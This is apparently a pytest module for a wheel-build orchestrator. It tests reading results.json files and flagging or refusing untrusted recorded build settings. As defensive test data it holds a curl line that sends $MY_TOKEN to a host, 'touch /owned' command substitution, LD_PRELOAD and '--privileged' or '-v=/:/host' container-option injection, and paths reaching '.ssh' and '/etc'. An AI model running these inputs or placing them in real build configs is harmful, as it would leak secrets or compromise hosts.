"""A request that was written to results.json, read back out of it."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from orchestrator.errors import ConfigError
from orchestrator.models.target import (
    BackendName,
    BuildRequest,
    CompilePlan,
    CudaSource,
    Digest,
    EmulationMode,
    EnvironmentSpec,
    EnvVar,
    Frontend,
    FrontendName,
    LibraryStep,
    OnMismatch,
    OnRefusal,
    Source,
    Target,
    TargetId,
    TargetResources,
    TargetSteps,
    VersionAnswer,
    VersionPart,
)
from orchestrator.report import from_results
from orchestrator.report.from_results import Recorded, RecordedRun
from orchestrator.report.serialize import result
from tests import factories, reports
from tests.factories import CONTAINER

ID = TargetId("cp312-manylinux_x86_64-a")

PLANNED = factories.target(
    ID,
    variant=(("kind", "a"),),
    version="2.0",
    env=(EnvVar(name="MY_TOKEN", value="ours-of-today", origin="env"),),
    steps=TargetSteps(timeout=60),
    runner=("ubuntu-24.04",),
    needs=(TargetId("core"),),
)

BUILT = replace(
    PLANNED,
    version="1.0+a",
    build_tag="7",
    on_mismatch=OnMismatch.REWRITE,
    env=(
        EnvVar(name="DEPTH", value="$(nproc)", origin="env", shell=True),  # noqa: S604
        EnvVar(name="MY_TOKEN", value="theirs-of-then", origin="env"),
    ),
    steps=TargetSteps(
        environment=EnvironmentSpec(
            requires=("torch==2.13.*",),
            isolation=False,
            frontend=Frontend(name=FrontendName.BUILD_UV, args=("-x",)),
            indexes=(("torch", "https://host/cu130"),),
            cuda=CudaSource.INDEX,
        ),
        before_build="make all",
        config_settings=(("cmake.define.A", "1"), ("cmake.define.A", "2")),
        repair="auditwheel",
        repair_refused=OnRefusal.KEEP,
        external=("cuda",),
        normalise=True,
        test_command="pytest",
        test_requires=("pytest>=8",),
        timeout=5,
    ),
    baseline="2.28",
    pins=("torch==2.8.0",),
    parts=(
        VersionPart(
            name="base",
            value="1.0",
            source="env:V",
            answers=(VersionAnswer(source="env:V", value="1.0"),),
        ),
    ),
    resources=TargetResources(cpus=2.0, memory="1024b"),
)


def written(target: Target = BUILT, **changes: Any) -> dict[str, Any]:
    """What results.json says of a target that was built elsewhere."""
    source = Source(name="demo", version=None, digest=Digest("a" * 64), epoch=1_700_000_000)
    request = BuildRequest(
        target=target,
        source=source,
        backend=BackendName.CIBUILDWHEEL,
        toolchain_digest=Digest("t" * 64),
        builder_version="0.1.0",
        key=Digest("k" * 64),
    )
    outcome = factories.result(
        target.id,
        key=request.key,
        backend=BackendName.CIBUILDWHEEL,
        parts=target.parts,
        container=CONTAINER,
        request=request,
    )
    return result(replace(outcome, **changes), root=Path("/"))


@pytest.fixture
def read(tmp_path: Path) -> Callable[..., Recorded]:
    """Read results.json with these results."""

    def read(*results: dict[str, Any]) -> Recorded:
        (tmp_path / "r.json").write_text(json.dumps(reports.document(*results)))
        return Recorded.read(tmp_path / "r.json")

    return read


@pytest.fixture
def take(read: Callable[..., Recorded]) -> Callable[..., RecordedRun]:
    """Take what results.json has of a target that was built elsewhere into the plan of here."""

    def take(theirs: Target = BUILT, mine: Target = PLANNED, **changes: Any) -> RecordedRun:
        return read(written(theirs, **changes)).take([mine])

    return take


Take = Callable[..., RecordedRun]
Read = Callable[..., Recorded]


def test_what_was_built_comes_back(take: Take) -> None:
    found = take()

    assert found.targets == (
        replace(
            BUILT,
            image=CONTAINER.digest,
            env=(BUILT.env[0], PLANNED.env[0]),
            # No part of what comes out.
            steps=replace(BUILT.steps, timeout=60),
        ),
    )
    assert found.notes == (f"{ID}: MY_TOKEN is secret there, and as planned here",)
    assert f"{ID}: version: 2.0 -> 1.0+a" in found.taken
    assert f"{ID}: env DEPTH: - -> $(nproc)" in found.taken
    assert f"{ID}: config settings: - -> " in " ".join(found.taken)


def test_an_image_without_a_digest_is_taken_by_its_name(take: Take) -> None:
    local = replace(CONTAINER, digest="", image="localhost/base:1")

    assert take(container=local).targets[0].image == local.image
    assert take(container=None).targets[0].image == BUILT.image


HIDDEN_INDEX = EnvironmentSpec(indexes=(("torch", "https://me:pass-word@host/x"),))


@pytest.mark.parametrize(
    ("name", "theirs"),
    [
        ("before_build", "pip install --index-url https://a:pass-word@host/x y"),
        ("environment", HIDDEN_INDEX),
    ],
)
def test_a_secret_is_not_written_and_leaves_what_has_it_as_planned(
    take: Take, name: str, theirs: Any
) -> None:
    built = replace(BUILT, steps=replace(BUILT.steps, **{name: theirs}))
    found = take(built)

    assert "pass-word" not in repr(written(built))
    assert getattr(found.targets[0].steps, name) == getattr(PLANNED.steps, name)
    assert f"{ID}: {name} has a secret in it there, and is as planned here" in found.notes


def test_a_secret_that_is_not_set_here_is_said(take: Take) -> None:
    found = take(mine=replace(PLANNED, env=()))

    assert [each.name for each in found.targets[0].env] == ["DEPTH"]
    assert f"{ID}: MY_TOKEN is secret there, and not set here" in found.notes


def test_a_library_that_the_file_lacks_is_built_as_planned(read: Read) -> None:
    library = replace(PLANNED, id=TargetId("core"), needs=())
    recorded = read(written())

    found = recorded.take([library, PLANNED])

    assert found.targets[0] == library
    assert f"core: not in {recorded.file}, built as planned here" in found.notes


def test_the_backend_is_asked_for_where_the_file_says_which(read: Read) -> None:
    def of(**changes: Any) -> BackendName | None:
        return from_results.backend_of(read(written() | changes).results[ID])

    assert of() is BackendName.CIBUILDWHEEL
    assert of(backend="direct", container=None) is BackendName.DIRECT
    assert of(backend="direct") is None, "that one was in a container"
    assert of(backend="direct", container=None, cached=True) is None, "nobody knows where"


def test_an_id_that_stands_for_something_else_is_an_error(take: Take) -> None:
    with pytest.raises(ConfigError, match="for another Python or platform"):
        take(replace(BUILT, python="cp313"))


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("{", "not a JSON document"),
        ('{"schema": 2, "results": []}', "not a results.json of schema 1 but of schema 2"),
        ('{"schema": 1, "results": [{}]}', "results.0.id"),
        ('{"schema": 1, "results": []}', f"r.json: it has no target '{ID}'"),
    ],
)
def test_a_file_of_something_else(tmp_path: Path, text: str, message: str) -> None:
    file = tmp_path / "r.json"
    file.write_text(text)

    with pytest.raises(ConfigError) as error:
        Recorded.read(file).request(ID)
    assert message in str(error.value)


def test_a_file_that_is_not_there(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"results\.json: No such file"):
        Recorded.read(tmp_path)


def test_a_target_that_never_had_a_request(read: Read) -> None:
    entry = reports.result(ID, "failed", failure=reports.failure(message="no such image"))

    with pytest.raises(ConfigError, match=r"was to be built \(failed: no such image\)"):
        read(entry).request(ID)


def test_a_wheel_is_claimed_as_the_file_has_it(read: Read) -> None:
    recorded = read(written(wheel=factories.WHEEL))
    claim = recorded.wheel(ID)

    assert claim is not None
    assert (claim.facts.sha256, claim.folder) == (factories.WHEEL.sha256, recorded.file.parent)
    assert recorded.wheel(TargetId("other")) is None


def test_facts_that_differ_are_named(read: Read) -> None:
    before = read(written()).results[ID]
    now = written(
        replace(BUILT, env=(EnvVar(name="DEPTH", value="3", origin="env"), BUILT.env[1])),
        container=replace(CONTAINER, image_id="5678"),
    )

    assert [(each.what, each.before, each.now) for each in from_results.differing(before, now)] == [
        ("container image id", CONTAINER.image_id, "5678"),
        ("env DEPTH", "$(nproc)", "3"),
    ]
    assert from_results.differing(before, written()) == ()


# What only a container may run


def with_steps(**steps: Any) -> Target:
    return replace(PLANNED, steps=TargetSteps(**steps))


def with_env(*, evaluated: bool = False, **values: str) -> Target:
    more = (EnvVar(name=n, value=v, origin="env", shell=evaluated) for n, v in values.items())
    return replace(PLANNED, env=(*PLANNED.env, *more))


@pytest.mark.parametrize(
    ("theirs", "what"),
    [
        (with_steps(before_all="touch /owned"), "before-all: touch /owned"),
        (with_steps(before_build="make"), "before-build: make"),
        (with_steps(repair="cp {wheel} {dest_dir}"), "repair: cp {wheel} {dest_dir}"),
        (with_steps(test_command="pytest"), "test-command: pytest"),
        (with_steps(test_before="true"), "test-before: true"),
        (with_steps(test_requires=("x @ https://host/x.whl",)), "test-requires: ('x @ "),
        (with_steps(test_groups=("dev",)), "test-groups: ('dev',)"),
        (with_steps(config_settings=(("--global-option", "x"),)), "config-settings: "),
        (with_steps(environment=EnvironmentSpec(requires=("evil",))), "environment: "),
        (with_env(CC="sh -c true"), "env CC=sh -c true"),
        (with_env(LD_PRELOAD="/x.so"), "env LD_PRELOAD=/x.so"),
        (with_env(V="$(touch /owned)", evaluated=True), "env V=$(touch /owned)"),
        (
            replace(PLANNED, compiling=CompilePlan(emulation=EmulationMode.CROSS)),
            "compiling: cross by gcc",
        ),
    ],
)
def test_what_the_plan_does_not_run_is_foreign(theirs: Target, what: str, take: Take) -> None:
    (found,) = take(theirs).foreign[ID]
    assert found.startswith(what)


def test_the_commands_of_a_library_are_foreign_too(take: Take) -> None:
    library = LibraryStep(name="core", command="make", outputs=("*.so",))
    mine = replace(PLANNED, library=library)
    assert take(mine, mine).foreign == {}
    theirs = replace(mine, library=replace(library, command="touch /owned"))
    (found,) = take(theirs, mine).foreign[ID]
    assert "touch /owned" in found


def test_what_the_plan_runs_itself_is_not_foreign(take: Take) -> None:
    mine = replace(with_env(PRETEND="2.0", V="$(nproc)", evaluated=True), steps=BUILT.steps)
    assert take(mine, mine).foreign == {}
    # Another version of it, and less than the plan does.
    theirs = replace(mine, version="1.0+a", env=with_env(PRETEND="1.0+a").env, steps=TargetSteps())
    assert take(theirs, mine).foreign == {}
    assert take(replace(theirs, env=with_env(PRETEND="1.0").env), mine).foreign
    literal = replace(mine, env=with_env(V="$(nproc)").env)
    assert take(mine, literal).foreign[ID] == ("env PRETEND=2.0", "env V=$(nproc)")


def test_secrets_of_here_and_commands_of_there_do_not_meet_unasked(take: Take) -> None:
    theirs = with_steps(before_build="curl https://host/?$MY_TOKEN")
    (what,) = take(theirs).exposed[ID]
    assert what == "before-build: curl https://host/?$MY_TOKEN, with MY_TOKEN of this machine"
    assert take(theirs, replace(PLANNED, env=())).exposed == {}
    assert take(theirs, replace(PLANNED, steps=theirs.steps)).exposed == {}


def test_an_index_with_a_password_is_a_secret_of_here(read: Read) -> None:
    mine = replace(PLANNED, env=())
    theirs = replace(mine, steps=TargetSteps(before_build="curl https://host/?$PIP_INDEX_URL"))
    (what,) = read(written(theirs)).take([mine], secrets=["PIP_INDEX_URL"]).exposed[ID]
    assert what.endswith("$PIP_INDEX_URL, with PIP_INDEX_URL of this machine")
    assert read(written(mine)).take([mine], secrets=["PIP_INDEX_URL"]).exposed == {}


IMAGES = {
    # the plan's image, the file's, whether that comes from elsewhere
    "another registry": ("manylinux_2_28", "host.example/manylinux_2_28_x86_64", True),
    "another project": ("manylinux_2_28", "quay.io/evil/manylinux_2_28_x86_64", True),
    "another image": ("manylinux_2_28", "quay.io/pypa/manylinux_2_34_x86_64", True),
    "another alias": ("manylinux_2_28", "manylinux_2_34", True),
    "like a local one": ("localhost/base:1", "host.example/base:1", True),
    "another local one": ("localhost/base:1", "localhost/other:1", True),
    "a port": ("host:5000/base:1", "host:5001/base:1", True),
    "a digest": ("manylinux_2_28", f"quay.io/pypa/manylinux_2_28_x86_64@sha256:{'a' * 64}", False),
    "its alias": ("quay.io/pypa/manylinux_2_28_x86_64:1", "manylinux_2_28", False),
    "another tag": ("localhost/base:1", "localhost/base:2", False),
    "no image": ("manylinux_2_28", "", False),
}


@pytest.mark.parametrize(("image", "other", "is_foreign"), IMAGES.values(), ids=IMAGES)
def test_secrets_of_here_and_images_of_elsewhere_do_not_meet_unasked(
    take: Take, image: str, other: str, *, is_foreign: bool
) -> None:
    mine = replace(PLANNED, image=image)
    theirs = replace(mine, image=other)
    found = take(theirs, mine, container=None)
    what = f"image {other}, with MY_TOKEN of this machine"
    assert found.exposed == ({ID: (what,)} if is_foreign else {})
    assert take(theirs, replace(mine, env=()), container=None).exposed == {}
    assert found.foreign == {}  # on this host no image is used


@pytest.mark.parametrize(
    "theirs",
    [
        replace(BUILT, baseline="2"),
        replace(BUILT, baseline="2.17 -o x"),
        replace(BUILT, abi3="--help"),
        replace(BUILT, test_pythons=("cp313", "../python")),
        replace(BUILT, compiling=CompilePlan(baseline="2.x")),
        replace(BUILT, resources=TargetResources(memory="1g --privileged")),
        replace(BUILT, pins=("torch==",)),
        replace(BUILT, steps=TargetSteps(test_sources=("../../.ssh",))),
        replace(BUILT, steps=TargetSteps(test_sources=("/etc",))),
        replace(BUILT, steps=TargetSteps(emptied=("build.environment",))),
    ],
)
def test_facts_that_no_plan_has_are_refused(theirs: Target, take: Take) -> None:
    with pytest.raises(ConfigError, match="cannot be"):
        take(theirs)


@pytest.mark.parametrize("image", ["--privileged", "-v=/:/host", "a b", "$(id)", "\n"])
def test_an_image_is_no_option(image: str, take: Take) -> None:
    for theirs, container in (
        (replace(BUILT, image=image), None),
        (BUILT, replace(CONTAINER, digest=image)),
        (BUILT, replace(CONTAINER, digest="", image=image)),
    ):
        with pytest.raises(ConfigError, match="image cannot be"):
            take(theirs, container=container)
